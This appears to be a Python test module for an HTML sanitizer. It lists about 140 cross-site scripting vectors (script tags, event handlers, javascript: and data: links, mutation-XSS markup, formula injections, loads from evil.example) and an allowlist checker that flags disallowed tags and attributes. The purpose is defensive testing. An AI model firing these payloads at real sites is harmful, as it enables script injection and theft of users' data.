"""Answers that attack the page, and what must not be found in what they become."""

from __future__ import annotations

import re

from selectolax.lexbor import LexborHTMLParser, LexborNode

# Each with its own way to run a script, to load something, or to fake a part of the page.
VECTORS = (
    # Scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "\ufeff<script>alert(1)</script>",
    "<\0script>alert(1)</script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<a href='https://a.example' onmouseover=alert(1)>x</a>",
    "<marquee onstart=alert(1)>",
    # Elements that load, frame, restyle or send
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<template><script>alert(1)</script></template>",
    # Links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](  javascript:alert(1)  'title')",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](java\\script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](javascript://x.example/%0aalert(1))",
    "[x](https:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](//evil.example/x)",
    "[x](/logout)",
    "[x](\\\\evil.example)",
    "[x](?a=b)",
    "[x](#composer)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: data:text/html,x 'title'",
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x](https://a.example/ '\" onmouseover=\"alert(1)')",
    '[x](<https://a.example/"><script>alert(1)</script>>)',
    "[<script>alert(1)</script>](https://a.example)",
    '["><img src=x onerror=alert(1)>](https://a.example/)',
    "[[1]](javascript:alert(1))",
    '[[1]](https://s1.example/p"onclick=alert(1))',
    "[[1]](https://s1.example/p '\"><script>alert(1)</script>')",
    '[[1"onclick=alert(1)]](https://s1.example/p)',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    # Images
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![" onerror=alert(1) x="](https://evil.example/x.png)',
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    # Code and tables
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onclick="alert(1)\nx\n```',
    "``` </code></pre><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "~~~<img/src=x>\nx",
    "    </code></pre><img src=x onerror=alert(1)>",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '|a|\n|:-" onclick=alert(1):|\n|b|',
    # Identifiers that shadow the page's own
    "<a id=composer name=send>x</a>",
    "<form id=composer><input name=action></form>",
    "# heading {#composer onclick=alert(1)}",
    # Formulas
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$\\href{javascript:alert(1)}{x^2}$",
    '$\\class{x" onclick="alert(1)}{x}$',
    "$\\style{background:url(//evil.example)}{x}$",
    '$\\color{red" onmouseover="alert(1)}{x}$',
    "$\\fcolorbox{x}{url(//evil.example)}{y}$",
    '$\\hspace{9em" onclick="alert(1)}x$',
    "$\\rule{999em}{999em}$",
    "$\\unicode{x3c}\\text{script}\\unicode{x3e}$",
    "$\\verb|<img src=x onerror=alert(1)>|$",
    "$\\operatorname{<svg onload=alert(1)>}$",
    "$</math><script>alert(1)</script>$",
    "$$\n\\text{</mtext></math><img src=x onerror=alert(1)>}\n$$",
    "\\(\\mbox{<iframe src=javascript:alert(1)>}\\)",
    "\\[\\begin{x onclick=alert(1)}y\\end{x onclick=alert(1)}\\]",
    "$\\foo<script>alert(1)</script>$",
    # Markup that a browser may read differently the second time
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><math><mi><table><td></mi><style></math><img src onerror=alert(1)>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><a href="</title><img src=x onerror=alert(1)>">',
    '<div><a href="javascript:alert(1)" href="https://a.example">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<a href=https://a.example ping=//evil.example target=_self rel=opener>x</a>",
    "<a href=/logout>x</a>",
    "<p dir=rtl lang=x hidden accesskey=x contenteditable>x</p>",
    "<div role=dialog aria-modal=true tabindex=1 data-part=answer class=citation>x</div>",
    "<sup class='citation outside x' data-number=1>x</sup>",
    "<code class='language-x onclick formula'>x</code>",
)  # fmt: skip

_TAGS = set(
    """
    p h3 h4 h5 h6 ul ol li blockquote hr br pre code em strong s a sup span div
    table thead tbody tr th td math menclose mfrac mi mn mo mover mpadded mphantom mroot mrow
    mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover
    """.split()
)
_FORMULA = set(
    """
    accent columnalign columnlines columnspacing depth displaystyle fence form height largeop
    linebreak linethickness lspace mathsize mathvariant maxsize minsize movablelimits notation
    rowlines rowspacing rspace scriptlevel separator stretchy voffset width
    """.split()
)
_ATTRIBUTES = {
    "a": {"href", "class", "target", "rel", "data-number"},
    "code": {"class", "dir"},
    "div": {"class", "tabindex", "role", "aria-label", "dir"},
    "math": {"display", "dir"},
    "ol": {"start"},
    "pre": {"dir", "tabindex"},
    "span": {"class", "dir", "tabindex", "role", "aria-label"},
    "sup": {"class"},
    "td": {"class", "dir"},
    "th": {"class", "dir", "scope"},
}
_VALUES = {
    "href": r"(?:https?://|mailto:)[^\x00-\x20]+",
    "class": "|block|citation|gap|bracket|outside|host|code|table|formula|left|center|right"
    "|task|task done|code-[a-z]+"
    "|language-[a-z0-9+#-]+",
    "dir": "auto|ltr",
    "target": "_blank",
    "rel": "noopener noreferrer nofollow",
    "tabindex": "0",
    "role": "region|img",
    "data-number": r"\d+",
    "start": r"\d+",
}
_WORDS = "[a-z0-9 .+-]*"


def nodes(html: str) -> list[LexborNode]:
    """Return the elements that a browser makes of ``html`` in a page."""
    body = LexborHTMLParser(f"<!doctype html><body>{html}").body
    assert body
    return [node for node in body.traverse(include_text=False) if node.tag != "body"]


def faults(html: str) -> list[str]:
    """Return what must not stand in an answer and does."""
    found = []
    for node in nodes(html):
        if node.tag not in _TAGS:
            found.append(f"<{node.tag}>")
            continue
        allowed = _ATTRIBUTES.get(node.tag, set())
        allowed = allowed | (_FORMULA if node.tag.startswith("m") else {"dir"})
        for name, value in node.attributes.items():
            fits = re.fullmatch(_VALUES.get(name, _WORDS), value or "", re.IGNORECASE)
            if name not in allowed or not fits:
                found.append(f"<{node.tag} {name}={value!r}>")
        if node.tag == "a" and not {"rel", "target"} <= set(node.attributes):
            found.append("<a> in the same tab")
    return found
